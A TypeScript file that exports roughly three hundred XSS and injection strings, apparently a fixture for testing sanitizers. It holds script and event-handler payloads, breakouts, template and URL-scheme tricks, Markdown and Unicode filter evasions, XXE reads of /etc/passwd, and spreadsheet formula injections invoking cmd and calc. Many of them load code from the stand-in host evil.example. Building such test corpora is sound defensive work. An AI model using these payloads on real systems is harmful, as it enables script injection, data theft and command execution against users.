/**
 * Three hundred texts that want to be more than text. Each calls `xss()`, asks for something of evil.example, or brings an
 * element or attribute with xss in its name. Short, for most fields take no more than a line.
 */

/** Elements that run something as soon as they are there, or when they are looked at. */
const ELEMENTS = [
  ...[
    '<script>xss()</script>',
    '<script src=//evil.example/x.js></script>',
    '<script type=module>xss()</script>',
    '<script>xss()//',
    '<script/src=//evil.example></script>',
  ],
  ...[
    '<img src=x onerror=xss()>',
    '<img src=//evil.example/i.gif>',
    '<img srcset="//evil.example/i 1x">',
    '<image src=x onerror=xss()>',
    '<img/src="x"/onerror="xss()">',
  ],
  ...[
    '<svg onload=xss()>',
    '<svg><script>xss()</script></svg>',
    '<svg><animate onbegin=xss() attributeName=x>',
    '<svg><a xlink:href=javascript:xss()>x</a>',
    '<svg/onload=xss()//',
  ],
  ...[
    '<svg><use href="data:image/svg+xml,<svg id=x onload=xss()>#x">',
    '<svg><set attributeName=href to=javascript:xss()>',
    '<svg><foreignObject><iframe src=javascript:xss()>',
    '<svg><style>@import"//evil.example"</style>',
    '<svg><image href=//evil.example/i>',
  ],
  ...[
    '<math><mtext><img src=x onerror=xss()>',
    '<math href=javascript:xss()>x</math>',
    '<math><maction actiontype=statusline xlink:href=javascript:xss()>x',
    '<math><style><img src=x onerror=xss()>',
    '<math><mglyph><style><!--</style><img src onerror=xss()>',
  ],
  ...[
    '<iframe src=javascript:xss()>',
    '<iframe srcdoc="<script>parent.xss()</script>">',
    '<iframe src=//evil.example>',
    '<frameset onload=xss()>',
    '<object data=javascript:xss()>',
  ],
  ...[
    '<embed src=//evil.example/x.swf>',
    '<video src=x onerror=xss()>',
    '<audio src=//evil.example/a>',
    '<video poster=//evil.example/p>',
    '<source srcset=//evil.example/s>',
  ],
  ...[
    '<body onload=xss()>',
    '<body background=//evil.example/b>',
    '<link rel=stylesheet href=//evil.example/c>',
    '<link rel=prefetch href=//evil.example>',
    '<base href=//evil.example/>',
  ],
  ...[
    '<meta http-equiv=refresh content="0;url=javascript:xss()">',
    '<meta http-equiv=refresh content="0;//evil.example">',
    '<form action=javascript:xss()><input type=submit>',
    '<button formaction=javascript:xss()>x',
    '<input autofocus onfocus=xss()>',
  ],
  ...[
    '<details open ontoggle=xss()>',
    '<marquee onstart=xss()>x',
    '<select autofocus onfocus=xss()>',
    '<textarea autofocus onfocus=xss()>',
    '<keygen autofocus onfocus=xss()>',
  ],
  ...[
    '<dialog open onclose=xss()>',
    '<a href=javascript:xss()>x</a>',
    '<a href="data:text/html,<script>xss()</script>">x</a>',
    '<a ping=//evil.example href=#>x</a>',
    '<area href=javascript:xss()>',
  ],
  ...[
    '<template><script>xss()</script></template>',
    '<noscript><p title="</noscript><img src onerror=xss()>">',
    '<style>@import"//evil.example/c";</style>',
    '<style>*{background:url(//evil.example/b)}</style>',
    '<table background=//evil.example/t>',
  ],
  ...[
    '<xss-tag>x</xss-tag>',
    '<p data-xss=1>x',
    '<b class=xss>x</b>',
    '<portal src=//evil.example>',
    '<isindex type=image src=1 onerror=xss()>',
  ],
  ...[
    '<IMG SRC=x ONERROR=xss()>',
    '<ScRiPt>xss()</sCrIpT>',
    '<<script>xss()//<</script>',
    '<img src=x onerror\n=xss()>',
    '<img\tsrc=x\tonerror=xss()>',
  ],
  ...[
    '<img src=x onerror=&#120;ss()>',
    '<img src="x` `<script>xss()</script>"` `>',
    '<!--><img src=x onerror=xss()>-->',
    '<![CDATA[><img src=x onerror=xss()>]]>',
    '<?xml ?><img src=x onerror=xss()>',
  ],
];

/** The end of whatever they stand in, and something after it. */
const BREAKOUTS = [
  ...[
    '"><img src=x onerror=xss()>',
    "'><img src=x onerror=xss()>",
    '" onmouseover="xss()',
    "' onmouseover='xss()",
    '" autofocus onfocus=xss() x="',
  ],
  ...[
    '" style="background:url(//evil.example)',
    '` onmouseover=`xss()',
    ' onclick=xss() ',
    '"/onfocus=xss()/autofocus x="',
    '&quot; onmouseover=&quot;xss()',
  ],
  ...[
    '</title><script>xss()</script>',
    '</style><script>xss()</script>',
    '</textarea><script>xss()</script>',
    '</noscript><img src=x onerror=xss()>',
    '</template><img src=x onerror=xss()>',
  ],
  ...[
    '</script><script>xss()</script>',
    '</ScRiPt ><img src=x onerror=xss()>',
    '<!--<script>',
    '<!-- <script> --></script><img src onerror=xss()>',
    ']]></script><svg onload=xss()>',
  ],
  ...[
    '</td></table><script>xss()</script>',
    '</svg><img src=x onerror=xss()>',
    '</text><script>xss()</script>',
    '</p></div></main><script>xss()</script>',
    '</option></select><img src onerror=xss()>',
  ],
  ...['"};xss();//', "';xss();//", '`;xss();//', '${xss()}', '"+xss()+"'],
  ...[
    "\\';xss();//",
    '\\");xss();//',
    '\\u0022;xss()//',
    '\\x3cscript\\x3exss()\\x3c/script\\x3e',
    '\u2028xss()//',
  ],
  ...['","@type":"xss","x":"', '"}</script><script>xss()</script>{"', '{"__proto__":{"xss":1}}', '\\', '\\"'],
  ...[
    '*/xss()/*',
    '*/}body{background:url(//evil.example)}/*',
    ';}*{background:url(//evil.example/x)}',
    'expression(xss())',
    'url(javascript:xss())',
  ],
  ...['-->', '--><script>xss()</script>', '--!><img src=x onerror=xss()>', '<!', '<'],
];

/** Templates and expressions of frameworks that are not here, and of one that might be. */
const TEMPLATES = [
  ...['{{xss()}}', "{{constructor.constructor('xss()')()}}", '{xss()}', '#{xss()}', '<%= xss() %>'],
  ...['[[${xss()}]]', '{% xss %}', '{{=xss()}}', '${{xss()}}', '{#xss#}'],
  ...['{set:html=xss}', '<slot name=xss>', '<Fragment set:html=xss>', 'v-html="xss()"', 'x-data="xss()"'],
  ...[
    'ng-init="xss()"',
    '@click="xss()"',
    ':href="javascript:xss()"',
    'on:click={xss}',
    'hx-on:load="xss()"',
  ],
];

/** Addresses that run something, in the disguises of browsers. */
const SCHEMES = [
  ...[
    'javascript:xss()',
    'JaVaScRiPt:xss()',
    'java\tscript:xss()',
    ' javascript:xss()',
    'javascript&colon;xss()',
  ],
  ...[
    'javascript&#58;xss()',
    '&#106;avascript:xss()',
    '&#x6A;avascript:xss()',
    'javascript:%78ss()',
    'javascript:/*--></title>*/xss()',
  ],
  ...[
    'vbscript:xss()',
    'data:text/html,<script>xss()</script>',
    'data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==',
    'data:image/svg+xml,<svg onload=xss()>',
    'data:application/xhtml+xml,<xss/>',
  ],
  ...['//evil.example/x', '\\\\evil.example\\x', '/\\evil.example', 'http:evil.example', 'blob:xss'],
  ...[
    'feed:javascript:xss()',
    'view-source:javascript:xss()',
    'livescript:xss()',
    'mocha:xss()',
    'filesystem:javascript:xss()',
  ],
  ...[
    'javascript://%0axss()',
    'javascript:alert(1)',
    'x-xss:xss()',
    'intent://evil.example#Intent;end',
    'jar:javascript:xss()!',
  ],
];

/** The same addresses as Markdown has them. */
const MARKDOWN = [
  ...SCHEMES.slice(0, 20).map((url) => `[x](${url})`),
  ...[
    '[x](<javascript:xss()>)',
    '[x](javascript:xss() "t")',
    "[x](https://a' onmouseover='xss())",
    '[x](https://a"onmouseover="xss())',
    '[x](https://a "t\\" onmouseover=\\"xss()")',
  ],
  ...[
    '![x](//evil.example/i.gif)',
    '![x](javascript:xss())',
    '![x" onerror="xss()](x)',
    '![](data:image/svg+xml,<svg/onload=xss()>)',
    '![x][i]',
  ],
  ...[
    '<javascript:xss()>',
    '<data:text/html,xss>',
    '<vbscript:xss()>',
    '<x@y" onmouseover="xss()>',
    '<JAVASCRIPT:xss()>',
  ],
  ...[
    '[r]: javascript:xss()',
    '[r]: <data:text/html,xss> "t"',
    '[r]: //evil.example "xss"',
    '[r][r]',
    '[x]: vbscript:xss()',
  ],
  ...[
    '`<script>xss()</script>`',
    '``` <script>xss()',
    '~~~"><img src=x onerror=xss()>',
    '    <script>xss()</script>',
    '<b>**<script>xss()</script>**',
  ],
  ...[
    '| <img src=x onerror=xss()> |',
    '> <script>xss()</script>',
    '- <svg onload=xss()>',
    '1. <img src=x onerror=xss()>',
    '# <script>xss()</script>',
  ],
  ...[
    '[x](&#106;avascript:xss())',
    '[x](java\\script:xss())',
    '[`x`](javascript:xss())',
    '[![x](x)](javascript:xss())',
    '[x](# onclick=xss())',
  ],
];

/** Letters that become others: half a width, another script, composed, folded, turned round. */
const LETTERS = [
  ...[
    '＜script＞xss()＜/script＞',
    '﹤img src=x onerror=xss()﹥',
    '‹script›xss()‹/script›',
    '〈script〉xss()〈/script〉',
    '＂ onmouseover=＂xss()',
  ],
  ...[
    'ſcript xss',
    '<ſcript>xss()</ſcript>',
    '<ıframe src=javascript:xss()>',
    '<İmg src=x onerror=xss()>',
    '<K onclick=xss()>',
  ],
  ...[
    '\u202e<script>xss()</script>',
    '\u200b<script>xss()</script>',
    '<scr\u00adipt>xss()</scr\u00adipt>',
    '<scr\u0000ipt>xss()</script>',
    '<img src=x onerror\u00a0=xss()>',
  ],
  ...[
    '%3Cscript%3Exss()%3C/script%3E',
    '&lt;script&gt;xss()&lt;/script&gt;',
    '&#60;script&#62;xss()&#60;/script&#62;',
    '&amp;lt;img src=x onerror=xss()&amp;gt;',
    '\\u003cscript\\u003exss()\\u003c/script\\u003e',
  ],
  ...[
    '+ADw-script+AD4-xss()+ADw-/script+AD4-',
    '<script\u3000>xss()</script>',
    '<img\u3000src=x onerror=xss()>',
    '＆lt;script＆gt;xss',
    '≮script≯xss()',
  ],
  ...[
    '\uff1cimg src=x onerror=xss()\uff1e',
    '<\u0338script>xss()',
    '𝗃avascript:xss()',
    'ｊａｖａｓｃｒｉｐｔ：xss()',
    '<a href=ｊavascript:xss()>x',
  ],
];

/** The other formats that are written: XML, calendars, tables, lists of feeds. */
const FORMATS = [
  ...[
    ']]><xss/>',
    ']]>]]&gt;<xss/>',
    '<!ENTITY xss SYSTEM "file:///etc/passwd">',
    '&xss;',
    '<xi:include href="file:///etc/passwd"/>',
  ],
  ...[
    '</summary><script>xss()</script>',
    '</content></entry><entry><title>xss</title>',
    '" xmlUrl="//evil.example" x="',
    '<outline xmlUrl="javascript:xss()"/>',
    "' htmlUrl='javascript:xss()",
  ],
  ...[
    'x\\nEND:VEVENT\\nBEGIN:VALARM\\nXSS:1',
    'x;ATTACH=//evil.example',
    'x\\,URL:javascript:xss()',
    'x:VALUE=URI:javascript:xss()',
    'BEGIN:VEVENT',
  ],
  ...['=xss()', '=cmd|"/c calc"!A1', '+xss()', '-xss()', '@xss()'],
  ...['=HYPERLINK("//evil.example","x")', '=IMPORTXML("//evil.example","//a")', '=1+1', '-1+1', '+1-1'],
  ...['\t=xss()', ' =xss()', '＝xss()', '"=xss()"', "'=xss()"],
  ...[
    '=WEBSERVICE("//evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    '=@SUM(xss)',
    '-2+3+cmd|" /C calc"!A0',
    ';=xss()',
  ],
  ...[',=xss()', '"",=xss()', '%0A=xss()', 'x,"=xss()"', '|=xss()'],
  ...[
    '<svg xmlns="http://www.w3.org/2000/svg" onload="xss()"/>',
    '<style>@font-face{src:url(//evil.example/f)}</style>',
    '<p style=x:url(//evil.example)>',
  ],
  ...[
    '<a href=//evil.example target=xss>x',
    '<img src=x:x onerror=xss()//',
    '<xss onclick=xss() tabindex=1 autofocus onfocus=xss()>x',
  ],
];

/** All, each once. */
export const PAYLOADS: readonly string[] = [
  ...new Set([...ELEMENTS, ...BREAKOUTS, ...TEMPLATES, ...SCHEMES, ...MARKDOWN, ...LETTERS, ...FORMATS]),
];
